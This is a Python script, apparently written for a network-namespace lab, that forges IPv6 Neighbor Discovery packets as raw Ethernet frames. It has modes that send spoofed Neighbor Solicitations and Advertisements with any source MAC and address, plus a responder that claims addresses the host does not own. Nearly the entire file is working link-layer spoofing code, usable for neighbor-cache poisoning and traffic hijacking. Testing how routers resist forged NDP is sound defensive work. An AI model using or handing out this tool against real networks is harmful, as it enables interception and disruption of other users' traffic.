#!/usr/bin/python3
"""ndp_forge.py — an attacker on the provider's link: forged Neighbor Solicitations and
Advertisements, sent as raw Ethernet frames (any source MAC, any source address), and a responder
that answers solicitations for an address it does not hold.

Run it inside the namespace that plays the provider's side, e.g.

    ip netns exec LABr /usr/bin/python3 ndp_forge.py ns --iface wan --mac 02:00:5e:00:53:66 \\
        --source 2001:db8:0:1::1:2 --target 2001:db8:0:1::2 --count 3
    ... na --iface wan --mac M --target T --router --override [--solicited] [--dst ff02::1]
    ... respond --iface wan --mac M --target T --seconds 12

ns       NS from --source (with the SLLA option --mac) for --target, to the target's solicited-node
         group. When the target is one of the receiver's own or proxied addresses, the receiver's
         kernel creates or updates a STALE entry for --source at --mac.
na       NA for --target with the TLLA option --mac and the flags given, to --dst (default ff02::1),
         from --source (default: --mac's EUI-64 link-local address).
respond  answers every NS for --target that arrives on --iface (not its own) with a solicited NA
         (S=1, O=1, R with --router) at --mac, for --seconds; prints how many it answered.

Every packet has hop limit 255 and a correct checksum. Exit status: 0, 1 on a runtime failure,
2 on a usage error. Stdlib only; Linux only; needs CAP_NET_RAW (root).
"""

import argparse
import ipaddress
import select
import socket
import struct
import sys
import time

ETH_P_IPV6 = 0x86DD
ICMPV6 = 58
NS, NA = 135, 136
PACKET_OUTGOING = 4


def mac_bytes(text):
    parts = text.split(":")
    if len(parts) != 6:
        raise argparse.ArgumentTypeError(f"not a MAC address: {text}")
    return bytes(int(p, 16) for p in parts)


def ip6(text):
    return ipaddress.IPv6Address(text)


def link_local(mac):
    eui = bytearray(mac[:3] + b"\xff\xfe" + mac[3:])
    eui[0] ^= 0x02
    return ipaddress.IPv6Address(b"\xfe\x80" + bytes(6) + bytes(eui))


def solicited_node(target):
    return ipaddress.IPv6Address(b"\xff\x02" + bytes(9) + b"\x01\xff" + target.packed[13:])


def multicast_mac(dst):
    return b"\x33\x33" + dst.packed[12:]


def checksum(src, dst, icmp):
    data = src.packed + dst.packed + struct.pack("!I3xB", len(icmp), ICMPV6) + icmp
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def frame(eth_dst, mac, src, dst, icmp):
    icmp = icmp[:2] + struct.pack("!H", checksum(src, dst, icmp)) + icmp[4:]
    ip_header = struct.pack("!IHBB", 6 << 28, len(icmp), ICMPV6, 255) + src.packed + dst.packed
    return eth_dst + mac + struct.pack("!H", ETH_P_IPV6) + ip_header + icmp


def ns_frame(mac, source, target):
    dst = solicited_node(target)
    icmp = struct.pack("!BBHI", NS, 0, 0, 0) + target.packed + bytes([1, 1]) + mac
    return frame(multicast_mac(dst), mac, source, dst, icmp)


def na_frame(mac, source, dst, eth_dst, target, router, solicited, override):
    flags = (router << 31) | (solicited << 30) | (override << 29)
    icmp = struct.pack("!BBHI", NA, 0, 0, flags) + target.packed + bytes([2, 1]) + mac
    return frame(eth_dst, mac, source, dst, icmp)


def open_socket(iface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IPV6))
    s.bind((iface, ETH_P_IPV6))
    return s


def respond(args):
    s = open_socket(args.iface)
    answered = 0
    deadline = time.monotonic() + args.seconds
    while (left := deadline - time.monotonic()) > 0:
        if not select.select([s], [], [], left)[0]:
            continue
        data, addr = s.recvfrom(2048)
        if addr[2] == PACKET_OUTGOING or len(data) < 14 + 40 + 24:
            continue
        ip = data[14:]
        if ip[6] != ICMPV6 or ip[40] != NS or ipaddress.IPv6Address(ip[64:80]) != args.target:
            continue
        asker = ipaddress.IPv6Address(ip[8:24])
        if asker.is_unspecified:
            continue  # DAD: answering would make the asker give the address up
        s.send(na_frame(args.mac, args.source or link_local(args.mac), asker, data[6:12],
                        args.target, args.router, True, True))
        answered += 1
    print(f"answered {answered}")


def main(argv):
    p = argparse.ArgumentParser(description="Forge NDP on a link (see module doc).")
    p.add_argument("mode", choices=["ns", "na", "respond"])
    p.add_argument("--iface", required=True)
    p.add_argument("--mac", required=True, type=mac_bytes, help="source MAC and link-layer option")
    p.add_argument("--source", type=ip6, help="IPv6 source (ns: required)")
    p.add_argument("--target", required=True, type=ip6)
    p.add_argument("--dst", type=ip6, default=ip6("ff02::1"), help="na: IPv6 destination")
    p.add_argument("--dst-mac", type=mac_bytes, help="na: Ethernet destination (unicast --dst)")
    p.add_argument("--router", action="store_true", help="na/respond: R flag")
    p.add_argument("--solicited", action="store_true", help="na: S flag")
    p.add_argument("--override", action="store_true", help="na: O flag")
    p.add_argument("--count", type=int, default=1)
    p.add_argument("--seconds", type=float, default=10.0, help="respond: how long")
    args = p.parse_args(argv)
    try:
        if args.mode == "respond":
            respond(args)
            return 0
        s = open_socket(args.iface)
        if args.mode == "ns":
            if args.source is None:
                p.error("ns needs --source")
            packet = ns_frame(args.mac, args.source, args.target)
        else:
            if not args.dst.is_multicast and args.dst_mac is None:
                p.error("na to a unicast --dst needs --dst-mac")
            eth_dst = multicast_mac(args.dst) if args.dst.is_multicast else args.dst_mac
            packet = na_frame(args.mac, args.source or link_local(args.mac), args.dst, eth_dst,
                              args.target, args.router, args.solicited, args.override)
        for _ in range(args.count):
            s.send(packet)
            time.sleep(0.01)
    except OSError as e:
        print(f"ndp_forge: {e}", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
